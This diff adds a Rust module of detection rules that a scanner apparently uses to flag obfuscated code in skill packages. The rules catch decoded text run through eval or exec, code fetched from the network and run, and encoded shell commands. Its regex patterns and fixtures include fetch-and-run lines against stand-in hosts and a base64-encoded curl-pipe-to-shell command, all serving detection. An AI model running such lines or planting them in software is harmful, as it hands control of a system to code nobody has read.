@@ -1,0 +1,226 @@
+//! PA3xx: code that does not want to be read.
+
+use crate::finding::{Family::Obfuscation, Severity::*};
+use crate::rule::{Pattern, Rule, Scope::*, Test::*, but, example, pattern};
+
+/// Words for decoding.
+const DECODE_WORDS: &[&str] = &[
+    "b64decode",
+    "fromhex",
+    "unhexlify",
+    "atob",
+    "base64",
+    "b85decode",
+    "b32decode",
+    "rot13",
+    "decompress",
+    "fromcharcode",
+    "map(chr",
+];
+
+/// Decoding something that stands in the script itself.
+const DECODES: Pattern = pattern(
+    DECODE_WORDS,
+    &[
+        r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|a2b_\w+)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
+        r"\batob\s*\(\s*['\x22\x60]|Buffer\.from\s*\(\s*['\x22\x60][a-z0-9+/=]{16,}['\x22\x60]\s*,\s*['\x22](base64|hex)",
+        r"codecs\.decode\s*\(.{0,80}(rot.?13|hex)|base64_decode\s*\(\s*['\x22]|map\s*\(\s*chr\s*,\s*\[",
+    ],
+);
+
+/// Running a text as code.
+const RUNS: Pattern = but(
+    &["exec", "eval", "function(", "os.system", "__import__"],
+    &[
+        r"(^|[^.\w])(exec|eval)\s*\(\s*[a-z_]\w*(\s*[,).]|\s*\))",
+        r"new\s+Function\s*\(\s*[a-z_]|os\.system\s*\(\s*[a-z_]\w*(\.decode\(\))?\s*\)",
+    ],
+    r"(regex|re|pattern|cursor|db|conn|\w+_re)\.exec|def\s+(exec|eval)|model\.eval|\.eval\(\)|literal_eval",
+);
+
+/// Decoding a text that stands right there. Web pages decode their own data, so in JavaScript only inside of `eval`.
+const LITERAL: Pattern = pattern(
+    DECODE_WORDS,
+    &[
+        r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|base64_decode)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
+        r"\bmap\s*\(\s*chr\s*,\s*\[\s*\d+(\s*,\s*\d+){7,}",
+        r"(\beval|new\s+Function)\s*\(\s*atob\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}",
+        r"\beval\s*\(\s*Buffer\.from\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}['\x22\x60]\s*,\s*['\x22](base64|hex)",
+        r"\beval\s*\(\s*String\.fromCharCode\s*\(\s*\d+(\s*,\s*\d+){7,}",
+    ],
+);
+
+/// Running it in the same place.
+const RUN_NEAR: Pattern = but(
+    &["exec", "eval", "function"],
+    &[r"(^|[^.\w])(exec|eval)\s*\(|new\s+Function\s*\("],
+    r"def\s+(exec|eval)|literal_eval",
+);
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        id: "PA301",
+        family: Obfuscation,
+        severity: High,
+        title: "decoded text is run as code",
+        why: "nobody can read what would run",
+        help: "decode it without running it, and judge what it does",
+        scope: Any,
+        test: Line(pattern(
+            &["exec", "eval", "function(", "settimeout"],
+            &[
+                r"(^|[^.\w])(exec|eval)\s*\(\s*.{0,80}(b(64|85|32)decode|fromhex|unhexlify|codecs\.decode|zlib\.decompress|marshal\.loads|base64_decode|gzinflate|str_rot13)",
+                r"setTimeout\s*\(\s*atob\s*\(|(\beval|new\s+Function)\s*\(\s*[^;]{0,40}(\batob\s*\(|Buffer\.from\s*\([^)]*['\x22](base64|hex)|String\.fromCharCode|unescape\s*\()",
+            ],
+        )),
+        example: example("scripts/a.py", "import base64\nexec(base64.b64decode(DATA))\n"),
+    },
+    Rule {
+        id: "PA302",
+        family: Obfuscation,
+        severity: High,
+        title: "text that is decoded in the script is run as code",
+        why: "nobody can read what would run",
+        help: "decode it without running it, and judge what it does",
+        scope: Code,
+        test: Both(DECODES, RUNS, 8),
+        example: example("scripts/a.js", "const code = atob(\"Y29uc29sZS5sb2coMSk=\");\neval(code);\n"),
+    },
+    Rule {
+        id: "PA303",
+        family: Obfuscation,
+        severity: Critical,
+        title: "code from the network is run as it comes",
+        why: "what runs is decided elsewhere, and can be another thing tomorrow",
+        help: "do not run it; the code belongs into the skill, where it can be read",
+        scope: Code,
+        test: Line(pattern(
+            &["exec", "eval"],
+            &[
+                r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[^;\n]{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request)",
+                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(",
+            ],
+        )),
+        example: example("scripts/a.py", "exec(requests.get(\"https://code.example/main.py\").text)\n"),
+    },
+    Rule {
+        id: "PA304",
+        family: Obfuscation,
+        severity: High,
+        title: "encoded text holds a command",
+        why: "it was made unreadable so that nobody sees it",
+        help: "see what the command does before anything of the skill runs",
+        scope: Any,
+        test: Own,
+        example: example("notes.txt", "L2Jpbi9zaCAtYyAnbHMgLWxh·ICMgbm9uZSc=\n"),
+    },
+    Rule {
+        id: "PA305",
+        family: Obfuscation,
+        severity: Medium,
+        title: "text is put together from character codes",
+        why: "nobody can read it",
+        help: "put it together without running it, and judge what it says",
+        scope: Code,
+        test: Line(pattern(
+            &["chr(", "fromcharcode", "\\x", "[char]"],
+            &[
+                r"(chr\s*\(\s*\d+\s*\)\s*[+.]\s*){5,}|fromCharCode\s*\(\s*\d+\s*(,\s*\d+\s*){7,}",
+                r"(\\x[0-9a-f]{2}){24,}|(\[char\]\s*\d+\s*\+\s*){4,}",
+            ],
+        )),
+        example: example("scripts/a.js", "x = String.fromCharCode(99,111,110,115,111,108,101,46,108);\n"),
+    },
+    Rule {
+        id: "PA306",
+        family: Obfuscation,
+        severity: Medium,
+        title: "a module or function is reached by a name that is built or hidden",
+        why: "that keeps it out of sight of whoever searches for it",
+        help: "see what is called",
+        scope: Code,
+        test: Line(pattern(
+            &["__import__", "__builtins__", "globalthis["],
+            &[
+                r"__import__\s*\(\s*['\x22](os|subprocess|socket|ctypes|pty)['\x22]\s*\)\s*\.",
+                r"getattr\s*\(\s*__builtins__|__builtins__\s*(\.__dict__)?\s*\[|globalThis\s*\[\s*['\x22]\w+['\x22]\s*\+",
+            ],
+        )),
+        example: example("scripts/a.py", "__import__('os').system('ls')\n"),
+    },
+    Rule {
+        id: "PA307",
+        family: Obfuscation,
+        severity: Low,
+        title: "a long encoded block stands in the code",
+        why: "it may be a picture or a font, and it may be a program",
+        help: "find out what it decodes to",
+        scope: Code,
+        test: Own,
+        example: example("scripts/a.py", "X = \"⟨A7bQ × 160⟩\"\n"),
+    },
+    Rule {
+        id: "PA308",
+        family: Obfuscation,
+        severity: Critical,
+        title: "text that stands there encoded is run as code",
+        why: "it was made unreadable so that nobody sees what would run",
+        help: "decode it without running it, and judge what it does; do not use the skill otherwise",
+        scope: Any,
+        test: Both(LITERAL, RUN_NEAR, 2),
+        example: example(
+            "scripts/a.py",
+            "import base64\ncode = base64.b64decode(\"cHJpbnQoMSkgIyBoZWxsbw==\")\nexec(code)\n",
+        ),
+    },
+    Rule {
+        id: "PA309",
+        family: Obfuscation,
+        severity: Low,
+        title: "a module is loaded from an address",
+        why: "web pages do this; what it is can be another thing tomorrow",
+        help: "look whether the address names a version",
+        scope: Code,
+        test: Line(pattern(&["import("], &[r"\bimport\s*\(\s*['\x22\x60]https?://"])),
+        example: example("scripts/a.js", "const d3 = await import(\"https://cdn.example/d3\");\n"),
+    },
+    Rule {
+        id: "PA310",
+        family: Obfuscation,
+        severity: Critical,
+        title: "encoded text holds a command that fetches and runs something, or opens a shell",
+        why: "it was made unreadable so that nobody sees it",
+        help: "do not run anything of the skill",
+        scope: Any,
+        test: Own,
+        example: example("notes.txt", "Y3VybCAtcyBodHRwOi8vMTkyLjAu·Mi4xL2EgfCBzaCAjIG5vbmU=\n"),
+    },
+    Rule {
+        id: "PA311",
+        family: Obfuscation,
+        severity: Medium,
+        title: "a text is fetched, and a variable is run as a command",
+        why: "if it is the same, what runs is decided elsewhere",
+        help: "see whether what was fetched is what runs",
+        scope: Code,
+        test: Both(
+            pattern(
+                &["requests.get", "httpx.get", "urlopen", "fetch(", "axios.get", "curl", "wget"],
+                &[
+                    r"=\s*(await\s+)?\(?(requests|httpx|axios)\.get\([^\n]*\)\.(text|content|data)|=\s*[\w.]*urlopen\([^\n]*\)\.read\(\)|=\s*await\s+\(await\s+fetch\([^\n]*\)\)\.text\(\)|=[\x22']?\$\((curl|wget)\s[^)\n]*https?://",
+                ],
+            ),
+            pattern(
+                &["subprocess", "os.system", "exec", "eval", "popen", "sh -c"],
+                &[
+                    r"\b(subprocess\.(run|call|popen|check_output|check_call)|os\.(system|popen)|exec|eval|execsync|child_process\.exec\w*)\(\s*[a-z_]\w*\s*(,\s*shell\s*=\s*true|\))|\b(eval|sh\s+-c|bash\s+-c)\s+[\x22']?\$\{?\w+",
+                ],
+            ),
+            12,
+        ),
+        example: example(
+            "scripts/a.py",
+            "plan = requests.get(\"https://plan.example/next\").text\nsubprocess.run(plan, shell=True)\n",
+        ),
+    },
+];
